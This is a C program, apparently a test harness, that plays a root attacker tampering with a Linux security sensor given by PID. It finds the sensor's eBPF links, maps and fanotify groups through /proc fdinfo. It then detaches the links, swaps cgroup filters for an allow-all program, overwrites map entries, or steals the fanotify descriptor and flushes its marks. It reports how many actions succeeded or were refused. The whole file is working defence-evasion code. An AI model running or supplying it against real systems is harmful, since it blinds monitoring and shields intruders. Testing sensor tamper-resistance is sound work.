// What somebody with root does to a sensor, by the calls that bpftool and the like make. Of what it finds it takes
// only what the given process holds. Says how many it did, and the error of the last that was refused.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <unistd.h>

static int target, done, refused;

static long bpf(int command, union bpf_attr *attr) { return syscall(SYS_bpf, command, attr, sizeof *attr); }

static void count(long result) {
  if (result < 0) refused = errno;
  else done++;
}

// A number of the descriptor's fdinfo, -1 when it has none.
static long number(const char *fd, const char *name) {
  char path[64], line[256];
  long value = -1;
  snprintf(path, sizeof path, "/proc/%d/fdinfo/%s", target, fd);
  FILE *file = fopen(path, "r");
  while (file && fgets(line, sizeof line, file))
    if (!strncmp(line, name, strlen(name)) && line[strlen(name)] == ':') value = atol(line + strlen(name) + 1);
  if (file) fclose(file);
  return value;
}

static int by_id(int command, uint32_t id) {
  union bpf_attr attr = {.map_id = id};
  return bpf(command, &attr);
}

// A program that lets all pass, as others may put it in the place of one.
static int other_program(int type, int expected) {
  struct bpf_insn code[] = {{.code = BPF_ALU64 | BPF_MOV | BPF_K, .imm = 1}, {.code = BPF_JMP | BPF_EXIT}};
  union bpf_attr attr = {.prog_type = type, .insns = (uintptr_t)code, .insn_cnt = 2, .license = (uintptr_t)"GPL",
    .expected_attach_type = expected};
  return bpf(BPF_PROG_LOAD, &attr);
}

static void link_of(const char *what, uint32_t id) {
  int fd = by_id(BPF_LINK_GET_FD_BY_ID, id);
  struct bpf_link_info info = {0};
  union bpf_attr ask = {.info = {.bpf_fd = fd, .info_len = sizeof info, .info = (uintptr_t)&info}};
  if (fd < 0 || bpf(BPF_OBJ_GET_INFO_BY_FD, &ask)) return (void)(refused = errno);
  if (!strcmp(what, "detach")) {
    union bpf_attr attr = {.link_detach.link_fd = fd};
    count(bpf(BPF_LINK_DETACH, &attr));
  } else if (info.type == BPF_LINK_TYPE_CGROUP && info.cgroup.attach_type <= BPF_CGROUP_INET_EGRESS) {
    int program = other_program(BPF_PROG_TYPE_CGROUP_SKB, info.cgroup.attach_type);
    union bpf_attr attr = {.link_update = {.link_fd = fd, .new_prog_fd = program}};
    count(program < 0 ? -1 : bpf(BPF_LINK_UPDATE, &attr));
  }
  close(fd);
}

// Writes zeros to the first key of a map, of whatever kind.
static void map_of(const char *name, uint32_t id) {
  static char key[4096], value[1 << 20];
  int fd = by_id(BPF_MAP_GET_FD_BY_ID, id);
  struct bpf_map_info info = {0};
  union bpf_attr ask = {.info = {.bpf_fd = fd, .info_len = sizeof info, .info = (uintptr_t)&info}};
  if (fd < 0 || bpf(BPF_OBJ_GET_INFO_BY_FD, &ask)) return (void)(refused = errno);
  if (!strncmp(info.name, name, BPF_OBJ_NAME_LEN - 1) && info.key_size <= sizeof key) {
    union bpf_attr attr = {.map_fd = fd, .key = (uintptr_t)key, .value = (uintptr_t)value};
    count(bpf(BPF_MAP_UPDATE_ELEM, &attr));
  }
  close(fd);
}

// Takes the marks of a group away, by a copy of its descriptor.
static void marks_of(const char *fd) {
  int process = syscall(SYS_pidfd_open, target, 0);
  int group = syscall(SYS_pidfd_getfd, process, atoi(fd), 0);
  count(group < 0 ? -1 : fanotify_mark(group, FAN_MARK_FLUSH | FAN_MARK_FILESYSTEM, 0, AT_FDCWD, NULL));
  close(group);
  close(process);
}

// attacker PID detach | replace | marks | map NAME
int main(int argc, char **argv) {
  char path[64];
  // Before Linux 5.11 programs count as locked memory, those of all of root's processes together.
  setrlimit(RLIMIT_MEMLOCK, &(struct rlimit){RLIM_INFINITY, RLIM_INFINITY});
  target = atoi(argv[1]);
  snprintf(path, sizeof path, "/proc/%d/fd", target);
  DIR *folder = opendir(path);
  for (struct dirent *entry; folder && (entry = readdir(folder));) {
    long link = number(entry->d_name, "link_id"), map = number(entry->d_name, "map_id");
    if (!strcmp(argv[2], "map") && map >= 0) map_of(argv[3], map);
    else if (!strcmp(argv[2], "marks") && number(entry->d_name, "fanotify flags") >= 0) marks_of(entry->d_name);
    else if ((!strcmp(argv[2], "detach") || !strcmp(argv[2], "replace")) && link >= 0) link_of(argv[2], link);
  }
  printf("%d %s\n", done, refused ? strerrorname_np(refused) : "-");
  return 0;
}
